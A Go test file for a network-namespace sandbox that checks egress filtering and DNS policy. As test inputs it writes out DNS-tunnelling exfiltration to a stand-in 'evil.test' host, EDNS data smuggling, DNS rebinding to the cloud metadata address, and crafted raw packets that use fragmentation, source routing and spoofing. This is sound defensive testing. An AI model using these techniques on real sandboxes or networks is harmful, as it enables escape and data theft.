//go:build root

package netns

import (
	"encoding/binary"
	"net"
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/miekg/dns"
	"github.com/vishvananda/netlink"
	"golang.org/x/sys/unix"
)

// TestDNSTunnel tries to carry bytes out in questions: as names, as case, as
// options and records beside the question, over UDP and TCP, and to resolvers of
// its own. Nothing but the names that are allowed reaches the upstream.
func TestDNSTunnel(t *testing.T) {
	cfg := testConfig(t)
	path := world(t)
	z := newZone(t)
	cfg.Upstreams = []string{z.addr}
	z.set("good.example.com. A", "good.example.com. 60 IN A "+public4)
	p := open(t, cfg)
	const secret = "c2VjcmV0.evil.test."
	for name, pol := range map[string]Policy{
		"names":              {Domains: []string{"good.example.com"}},
		"networks":           {AllowList: []string{public4 + "/32"}},
		"names and networks": {Domains: []string{"good.example.com"}, AllowList: []string{public4 + "/32"}},
	} {
		s := acquire(t, p, name, pol)
		for _, qtype := range []uint16{dns.TypeA, dns.TypeAAAA, dns.TypeTXT, dns.TypeCNAME, dns.TypeMX, dns.TypeNS, dns.TypeNULL, dns.TypeHTTPS, dns.TypeANY} {
			isNotResolved(t, s, secret, qtype)
			isNotResolved(t, s, "c2VjcmV0.good.example.com.", qtype)
		}
		for _, server := range []string{Gateway4.String(), Gateway6.String()} {
			if m, err := resolve(s, "tcp", server, secret, deadline); err != nil || m.Rcode != dns.RcodeRefused {
				t.Errorf("%s: over TCP: %v, %v", name, m, err)
			}
		}
	}
	if seen := z.asked(); len(seen) > 0 {
		t.Fatalf("the upstream was asked: %v", seen)
	}

	s := acquire(t, p, "names", Policy{Domains: []string{"good.example.com"}})
	q := new(dns.Msg)
	q.SetQuestion("gOoD.eXaMpLe.CoM.", dns.TypeA)
	q.CheckingDisabled, q.AuthenticatedData, q.Zero = true, true, true
	q.SetEdns0(4096, true)
	q.IsEdns0().Option = append(q.IsEdns0().Option, &dns.EDNS0_LOCAL{Code: dns.EDNS0LOCALSTART, Data: []byte("secret")},
		&dns.EDNS0_SUBNET{Code: dns.EDNS0SUBNET, Family: 1, SourceNetmask: 32, Address: net.IPv4(115, 101, 99, 114)})
	txt, _ := dns.NewRR(secret + " 60 IN TXT \"secret\"")
	q.Answer, q.Ns, q.Extra = []dns.RR{txt}, []dns.RR{txt}, append(q.Extra, txt)
	if m := query(t, s, q); m.Rcode != dns.RcodeSuccess || len(m.Answer) != 1 {
		t.Errorf("an allowed name: %v", m)
	}
	for _, m := range z.asked() {
		if strings.Contains(strings.ToLower(m.String()), "secret") || m.Question[0].Name != "good.example.com." || m.CheckingDisabled || m.Zero ||
			len(m.Answer)+len(m.Ns) > 0 || m.IsEdns0() != nil && len(m.IsEdns0().Option) > 0 {
			t.Errorf("what went out carries more than the question:\n%v", m)
		}
	}

	// Nobody who blocks everything is answered at all, nor on any other way.
	blocked := acquire(t, p, "blocked", Policy{BlockAll: true})
	for _, server := range []string{Gateway4.String(), Gateway6.String(), public4} {
		for _, network := range []string{"udp", "tcp"} {
			if m, err := resolve(blocked, network, server, "good.example.com.", time.Second/2); err == nil {
				t.Errorf("a blocked sandbox was answered by %s over %s: %v", server, network, m)
			}
		}
	}
	// Resolvers elsewhere: plain, over TLS, over HTTPS and QUIC.
	heard := eavesdrop(t, path)
	for _, port := range []string{"53", "853", "443", "8080"} {
		for _, network := range []string{"udp", "tcp"} {
			for _, to := range []string{public4b, public6} {
				isRefused(t, s, network, net.JoinHostPort(to, port))
				isRefused(t, blocked, network, net.JoinHostPort(to, port))
			}
		}
	}
	if got := heard(); len(got) > 0 {
		t.Errorf("packets went out: %v", got)
	}
	if seen := z.asked(); len(seen) > 0 {
		t.Errorf("the upstream was asked: %v", seen)
	}
}

// TestRebinding has the owner of an allowed name point it at what no sandbox may
// reach: at once, and after it was good before.
func TestRebinding(t *testing.T) {
	cfg := testConfig(t)
	world(t)
	z := newZone(t)
	cfg.Upstreams = []string{z.addr}
	p := open(t, cfg)
	s := acquire(t, p, "a", Policy{Domains: []string{"*.evil.test"}, AllowList: []string{"169.254.169.254/32", "10.0.0.0/8"}})
	other := acquire(t, p, "b", Policy{})
	greet(t, other.NetNS, ":2280")
	greet(t, "", ":18088")
	inside4 := []string{"127.0.0.1", "0.0.0.0", hostLink4, p.plan.gateway4().String(), Gateway4.String(), other.Addr.String(), InnerAddr4.Addr().String()}
	inside6 := []string{"::1", "::", hostLink6, p.plan.gateway6().String(), Gateway6.String(), other.Addr6.String(), "fe80::1",
		"::ffff:169.254.169.254", "::ffff:" + public4, "64:ff9b::a9fe:a9fe"}
	for _, f := range forbidden {
		if strings.Contains(f, ":") {
			inside6 = append(inside6, f)
		} else {
			inside4 = append(inside4, f)
		}
	}
	for _, to := range inside4 {
		z.set("x.evil.test. A", "x.evil.test. 0 IN A "+to)
		isNotResolved(t, s, "x.evil.test.", dns.TypeA)
		z.set("x.evil.test. A", "x.evil.test. 0 IN CNAME y.elsewhere.test.", "y.elsewhere.test. 0 IN A "+to)
		isNotResolved(t, s, "x.evil.test.", dns.TypeA)
	}
	for _, to := range inside6 {
		z.set("x.evil.test. AAAA", "x.evil.test. 0 IN AAAA "+to)
		isNotResolved(t, s, "x.evil.test.", dns.TypeAAAA)
	}
	for _, to := range append(append([]string{}, inside4[2:]...), inside6[2:]...) {
		if strings.HasPrefix(to, "fe80") || strings.HasPrefix(to, "::ffff:") {
			continue // no such packet leaves the sandbox's own kernel; see TestRawPackets
		}
		for _, port := range []string{"8080", "2280", "18088"} {
			if got, err := dialFrom(s.NetNS, "tcp", net.JoinHostPort(to, port), 200*time.Millisecond); err == nil {
				t.Errorf("reached %s port %s as %q", to, port, got)
			}
		}
	}
	// Half good, half bad; then all bad.
	z.set("x.evil.test. A", "x.evil.test. 0 IN A 169.254.169.254", "x.evil.test. 0 IN A "+public4)
	resolvesTo(t, s, "x.evil.test.", dns.TypeA, public4)
	reaches(t, s, "tcp", public4+":8080", hostLink4)
	z.set("x.evil.test. A", "x.evil.test. 0 IN A 169.254.169.254")
	isNotResolved(t, s, "x.evil.test.", dns.TypeA)
	isRefused(t, s, "tcp", "169.254.169.254:8080")
}

// TestQUIC checks UDP at port 443: closed but to allowed addresses, and a flow
// that goes on ends with the policy.
func TestQUIC(t *testing.T) {
	cfg := testConfig(t)
	path := world(t)
	for _, a := range []string{public4, public4b, public6} {
		greet(t, path, net.JoinHostPort(a, "443"))
	}
	z := newZone(t)
	cfg.Upstreams = []string{z.addr}
	z.set("good.example.com. A", "good.example.com. 60 IN A "+public4)
	z.set("good.example.com. AAAA", "good.example.com. 60 IN AAAA "+public6)
	p := open(t, cfg)
	s := acquire(t, p, "a", Policy{Domains: []string{"good.example.com"}})
	quic4, quic6, other := public4+":443", "["+public6+"]:443", public4b+":443"
	for _, a := range []string{quic4, quic6, other} {
		isRefused(t, s, "udp", a)
	}
	resolvesTo(t, s, "good.example.com.", dns.TypeA, public4)
	resolvesTo(t, s, "good.example.com.", dns.TypeAAAA, public6)
	reaches(t, s, "udp", quic4, hostLink4)
	reaches(t, s, "udp", quic6, hostLink6)
	isRefused(t, s, "udp", other)
	heard := eavesdrop(t, path)
	var c net.Conn
	inside(t, s.NetNS, func() (err error) { c, err = net.Dial("udp", quic4); return err })
	defer c.Close()
	c.Write([]byte("before"))
	setPolicy(t, p, "a", Policy{BlockAll: true})
	heard() // what was sent before
	for range 5 {
		c.Write([]byte("after")) // an error is the answer to the one before
	}
	if got := heard(); len(got) > 0 {
		t.Errorf("a flow of UDP went on: %v", got)
	}
}

// TestRawPackets sends what no socket of the kernel would: fragments that hide
// their ports, other protocols, source routes, IPv4-mapped addresses, frames that
// are not IP and foreign hardware addresses. Nothing of it arrives anywhere but
// where the policy lets a plain packet go.
func TestRawPackets(t *testing.T) {
	cfg := testConfig(t)
	path := world(t)
	p := open(t, cfg)
	a := acquire(t, p, "a", Policy{AllowList: []string{public4 + "/32"}})
	b := acquire(t, p, "b", Policy{})
	heard, neighbour := eavesdrop(t, path), eavesdrop(t, b.NetNS)
	src4, src6 := InnerAddr4.Addr(), InnerAddr6.Addr()
	bad4 := []string{public4b, "10.9.9.9", "169.254.169.254", "192.168.77.1", b.Addr.String(), p.plan.gateway4().String(), hostLink4}
	bad6 := []string{public6, "fd99::1", "fd00:ec2::254", "::ffff:" + public4, "::ffff:10.9.9.9", "64:ff9b::a09:909", b.Addr6.String(), p.plan.gateway6().String(), hostLink6}
	var frames [][]byte
	for _, to := range bad4 {
		dst := netip.MustParseAddr(to)
		for _, proto := range []byte{unix.IPPROTO_ICMP, unix.IPPROTO_TCP, unix.IPPROTO_UDP, unix.IPPROTO_IPIP, unix.IPPROTO_IPV6, unix.IPPROTO_GRE, unix.IPPROTO_SCTP, 255} {
			frames = append(frames, ipv4(src4, dst, proto, 0, nil, make([]byte, 24)))
		}
		udp := udpTo(443, []byte("fragmented"))
		frames = append(frames,
			ipv4(src4, dst, unix.IPPROTO_UDP, 0x2000, nil, udp[:8]), ipv4(src4, dst, unix.IPPROTO_UDP, 1, nil, udp[8:]), // in order
			ipv4(src4, dst, unix.IPPROTO_UDP, 3, nil, udp[8:]),                            // a tail without a head
			ipv4(src4, dst, unix.IPPROTO_TCP, 0x2000, nil, make([]byte, 8)),               // a head that hides its flags
			ipv4(src4, netip.MustParseAddr(public4), unix.IPPROTO_UDP, 0, lsrr(dst), udp), // by way of an allowed address
		)
	}
	for _, to := range bad6 {
		dst := netip.MustParseAddr(to)
		udp := udpTo(443, []byte("fragmented"))
		frames = append(frames,
			ipv6(src6, dst, unix.IPPROTO_UDP, udp), ipv6(src6, dst, unix.IPPROTO_TCP, make([]byte, 24)), ipv6(src6, dst, 58, make([]byte, 24)),
			ipv6(src6, dst, 44, append([]byte{17, 0, 0, 1, 0, 0, 0, 9}, udp[:8]...)), ipv6(src6, dst, 44, append([]byte{17, 0, 0, 8, 0, 0, 0, 9}, udp[8:]...)),
			ipv6(src6, dst, 43, append([]byte{17, 2, 0, 0, 0, 0, 0, 0}, append(dst.AsSlice(), udp...)...)), // a routing header
			ipv6(src6, dst, 0, append([]byte{17, 0, 1, 4, 0, 0, 0, 0}, udp...)),                            // options hop by hop
		)
	}
	for _, src := range []string{b.Addr.String(), a.Addr.String(), "127.0.0.1", public4b, hostLink4, "255.255.255.255"} {
		frames = append(frames, ipv4(netip.MustParseAddr(src), netip.MustParseAddr(public4), unix.IPPROTO_UDP, 0, nil, udpTo(443, []byte("spoofed"))))
	}
	raw := [][]byte{}
	for _, f := range frames {
		etherType := uint16(etherIPv4)
		if f[0]>>4 == 6 {
			etherType = etherIPv6
		}
		raw = append(raw, frame(gatewayMAC, innerMAC, etherType, f), frame(net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}, innerMAC, etherType, f))
	}
	arp := make([]byte, 28)
	raw = append(raw, frame(gatewayMAC, innerMAC, unix.ETH_P_ARP, arp), frame(gatewayMAC, innerMAC, 0x8100, append([]byte{0, 1, 8, 0}, frames[0]...)),
		frame(gatewayMAC, net.HardwareAddr{2, 0, 0, 0, 0, 9}, 0x88cc, make([]byte, 46)))
	send(t, a, raw)
	// A plain packet comes last: what came before it has arrived by then.
	reaches(t, a, "tcp", public4+":8080", hostLink4)
	came := heard()
	if len(came) == 0 {
		t.Error("nothing was heard at all, not even the plain packet")
	}
	for _, got := range came {
		if !strings.HasSuffix(got, "> "+public4) {
			t.Errorf("the outside heard %s", got)
		}
	}
	if got := neighbour(); len(got) > 0 {
		t.Errorf("the other sandbox heard %v", got)
	}
	reaches(t, b, "tcp", public4b+":8080", hostLink4)
}

// TestUnenforceablePolicy breaks the host's rules in a way that cannot be mended
// at once: the sandbox is cut off until they can be stated.
func TestUnenforceablePolicy(t *testing.T) {
	cfg := testConfig(t)
	world(t)
	p := open(t, cfg)
	s := acquire(t, p, "a", Policy{})
	greet(t, s.NetNS, ":2280")
	reaches(t, s, "tcp", public4+":8080", hostLink4)
	conn, err := openNftables()
	if err != nil {
		t.Fatal(err)
	}
	defer conn.CloseLasting()
	p.fw.mu.Lock() // nobody mends it in between
	if err := removeTables(conn, cfg.Prefix); err != nil {
		p.fw.mu.Unlock()
		t.Fatal(err)
	}
	table := conn.AddTable(p.fw.inet())
	set := *p.fw.set(setSlots)
	set.Table, set.KeyType = table, p.fw.pinSets(1, Policy{Domains: []string{"x.test"}})[0].KeyType
	if err := conn.AddSet(&set, nil); err != nil {
		t.Error(err)
	}
	err = conn.Flush()
	p.fw.mu.Unlock()
	if err != nil {
		t.Fatal(err)
	}
	if err := p.SetPolicy(t.Context(), "a", Policy{BlockAll: true}); err == nil {
		t.Fatal("a policy that cannot be set is said to hold")
	}
	for _, to := range []string{public4 + ":8080", "[" + public6 + "]:8080", hostLink4 + ":8080", "10.9.9.9:8080"} {
		if got, err := dialFrom(s.NetNS, "tcp", to, 300*time.Millisecond); err == nil {
			t.Errorf("without rules %s is reached as %q", to, got)
		}
	}
	if err := removeTables(conn, cfg.Prefix); err != nil {
		t.Fatal(err)
	}
	for until := time.Now().Add(deadline); len(p.doubtful()) > 0; time.Sleep(10 * time.Millisecond) {
		if time.Now().After(until) {
			t.Fatal("the policy was never enforced")
		}
	}
	isRefused(t, s, "tcp", public4+":8080")
	c, err := p.DialContext(t.Context(), s, 2280)
	if err != nil {
		t.Fatalf("the host does not reach the sandbox again: %v", err)
	}
	c.Close()
	setPolicy(t, p, "a", Policy{})
	reaches(t, s, "tcp", public4+":8080", hostLink4)
}

// TestRulesRemovedByOthers removes all rules behind the pool's back, as another
// firewall does that is restarted.
func TestRulesRemovedByOthers(t *testing.T) {
	cfg := testConfig(t)
	world(t)
	p := open(t, cfg)
	s := acquire(t, p, "a", Policy{AllowList: []string{public4 + "/32"}})
	conn, err := openNftables()
	if err != nil {
		t.Fatal(err)
	}
	defer conn.CloseLasting()
	if err := removeTables(conn, cfg.Prefix); err != nil {
		t.Fatal(err)
	}
	for until := time.Now().Add(deadline); !p.fw.whole(); time.Sleep(10 * time.Millisecond) {
		if time.Now().After(until) {
			t.Fatal("nobody put them back")
		}
	}
	reaches(t, s, "tcp", public4+":8080", hostLink4)
	isRefused(t, s, "tcp", public4b+":8080")
	isRefused(t, s, "tcp", "10.9.9.9:8080")
}

// TestForwarderThatDies closes the forwarder's sockets under it. No name resolves
// until they are open again, and then they do.
func TestForwarderThatDies(t *testing.T) {
	cfg := testConfig(t)
	z := newZone(t)
	cfg.Upstreams = []string{z.addr}
	z.set("good.example.com. A", "good.example.com. 60 IN A "+public4)
	p := open(t, cfg)
	s := acquire(t, p, "a", Policy{Domains: []string{"good.example.com"}})
	resolvesTo(t, s, "good.example.com.", dns.TypeA, public4)
	p.dns.mu.Lock()
	for c := range p.dns.sockets {
		c.Close()
	}
	p.dns.mu.Unlock()
	z.asked()
	for until := time.Now().Add(deadline); ; time.Sleep(10 * time.Millisecond) {
		m, err := resolve(s, "udp", Gateway4.String(), "good.example.com.", time.Second)
		if err == nil && m.Rcode == dns.RcodeSuccess {
			break
		}
		if time.Now().After(until) {
			t.Fatalf("names never resolved again: %v", err)
		}
	}
	isNotResolved(t, s, "bad.example.com.", dns.TypeA)
}

// eavesdrop hears the IP packets that come to a namespace from its device. The
// function it returns says what came since it was last called, as "source >
// destination", without what namespaces say of themselves.
func eavesdrop(t *testing.T, path string) func() []string {
	t.Helper()
	var fd int
	inside(t, path, func() (err error) {
		all := uint16(unix.ETH_P_ALL)
		fd, err = unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC|unix.SOCK_NONBLOCK, int(all<<8|all>>8))
		if err != nil {
			return err
		}
		return unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_RCVBUFFORCE, 8<<20)
	})
	t.Cleanup(func() { unix.Close(fd) })
	return func() []string {
		var out []string
		buf := make([]byte, 65536)
		for {
			n, from, err := unix.Recvfrom(fd, buf, 0)
			if err != nil {
				return out
			}
			ll, ok := from.(*unix.SockaddrLinklayer)
			if !ok || ll.Pkttype == unix.PACKET_OUTGOING || ll.Hatype == unix.ARPHRD_LOOPBACK || n < 34 {
				continue
			}
			b := buf[14:n]
			switch {
			case b[0]>>4 == 4:
				src, _ := netip.AddrFromSlice(b[12:16])
				dst, _ := netip.AddrFromSlice(b[16:20])
				out = append(out, src.String()+" > "+dst.String())
			case b[0]>>4 == 6 && n >= 54:
				src, _ := netip.AddrFromSlice(b[8:24])
				dst, _ := netip.AddrFromSlice(b[24:40])
				if dst.IsLinkLocalMulticast() || src.IsLinkLocalUnicast() || b[6] == 58 && b[40] >= 133 && b[40] <= 137 {
					continue // neighbour discovery between host and world
				}
				out = append(out, src.String()+" > "+dst.String())
			}
		}
	}
}

// send puts frames on a slot's device from inside.
func send(t *testing.T, s Slot, frames [][]byte) {
	t.Helper()
	inside(t, s.NetNS, func() error {
		dev, err := netlink.LinkByName(InnerDevice)
		if err != nil {
			return err
		}
		fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0)
		if err != nil {
			return err
		}
		defer unix.Close(fd)
		for _, f := range frames {
			if err := unix.Sendto(fd, f, 0, &unix.SockaddrLinklayer{Ifindex: dev.Attrs().Index}); err != nil {
				return err
			}
		}
		return nil
	})
}

func frame(to, from net.HardwareAddr, etherType uint16, payload []byte) []byte {
	out := append(append([]byte{}, to...), from...)
	return append(binary.BigEndian.AppendUint16(out, etherType), payload...)
}

// ipv4 makes a packet; fragment is the field of flags and offset.
func ipv4(src, dst netip.Addr, proto byte, fragment uint16, options, payload []byte) []byte {
	h := make([]byte, 20, 20+len(options)+len(payload))
	h[0], h[8], h[9] = byte(0x40|(20+len(options))/4), 64, proto
	binary.BigEndian.PutUint16(h[2:], uint16(20+len(options)+len(payload)))
	binary.BigEndian.PutUint16(h[4:], 0x4242)
	binary.BigEndian.PutUint16(h[6:], fragment)
	copy(h[12:], src.AsSlice())
	copy(h[16:], dst.AsSlice())
	h = append(h, options...)
	binary.BigEndian.PutUint16(h[10:], ^sum16(h))
	return append(h, payload...)
}

func ipv6(src, dst netip.Addr, next byte, payload []byte) []byte {
	h := make([]byte, 40, 40+len(payload))
	h[0], h[6], h[7] = 0x60, next, 64
	binary.BigEndian.PutUint16(h[4:], uint16(len(payload)))
	copy(h[8:], src.AsSlice())
	copy(h[24:], dst.AsSlice())
	return append(h, payload...)
}

// udpTo makes a datagram without a checksum.
func udpTo(port uint16, payload []byte) []byte {
	h := make([]byte, 8)
	binary.BigEndian.PutUint16(h, 40000)
	binary.BigEndian.PutUint16(h[2:], port)
	binary.BigEndian.PutUint16(h[4:], uint16(8+len(payload)))
	return append(h, payload...)
}

// lsrr is the option that asks to be sent on to another address.
func lsrr(to netip.Addr) []byte {
	return append([]byte{1, 131, 7, 4}, to.AsSlice()...)
}
